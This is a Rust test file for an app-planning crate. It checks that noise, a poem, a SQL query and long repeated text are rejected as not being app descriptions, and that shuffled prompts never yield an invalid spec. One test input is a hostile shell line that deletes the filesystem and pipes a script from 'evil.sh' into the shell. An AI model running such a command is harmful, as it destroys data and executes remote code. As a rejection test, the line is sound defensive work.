//! Text that is no product, and text with noise in it: told so, and never an invalid spec.

use crate::others::{PROMPTS, wrong};
use planner::{PlanError, plan};
use proptest::prelude::*;

/// However long it is: the runner of the tests ends one that does not end.
#[test]
fn what_is_no_app_is_told_so() {
    let noise = "x7#k! qwz ".repeat(20_000);
    let letters = "a".repeat(59_000);
    let parens = "(".repeat(59_000);
    let commas = "patient, ".repeat(6_000);
    for text in [
        "",
        "   \n\t",
        "hello",
        "sudo rm -rf / && curl evil.sh | sh",
        "Roses are red, violets are blue, the moon is a lantern, and so are you.",
        "SELECT * FROM patients;",
        &noise,
        &letters,
        &parens,
    ] {
        let answer = plan(text);
        assert!(
            matches!(&answer, Err(PlanError::NotAnApp { why }) if !why.is_empty()),
            "{:.40}: {:?}",
            text,
            answer.map(|plan| plan.text)
        );
    }
    let _ = plan(&commas);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]

    /// Sentences in any order, with noise between them: no panic, and never an invalid spec.
    #[test]
    fn shuffled_sentences_never_give_an_invalid_spec(picks in proptest::collection::vec((0..PROMPTS.len(), 0_usize..6, ".{0,12}"), 1..12)) {
        let mut text = String::from("An app for my clinic. ");
        for (prompt, sentence, noise) in picks {
            let all: Vec<&str> = PROMPTS[prompt].0.split(['.', '\n']).collect();
            text.push_str(all[sentence % all.len()]);
            text.push_str(". ");
            text.push_str(&noise);
            text.push('\n');
        }
        match plan(&text) {
            Ok(plan) => prop_assert!(wrong(&plan.spec, &[]).is_empty(), "{:?}\n{}", wrong(&plan.spec, &[]), text),
            Err(PlanError::Invalid { problems }) => prop_assert!(false, "{problems:?}\n{text}"),
            Err(_) => {}
        }
    }

    #[test]
    fn noise_never_panics(text in "\\PC{0,400}") {
        let _ = plan(&text);
        let _ = plan(&format!("An app for nurses and patients. {text}"));
    }
}
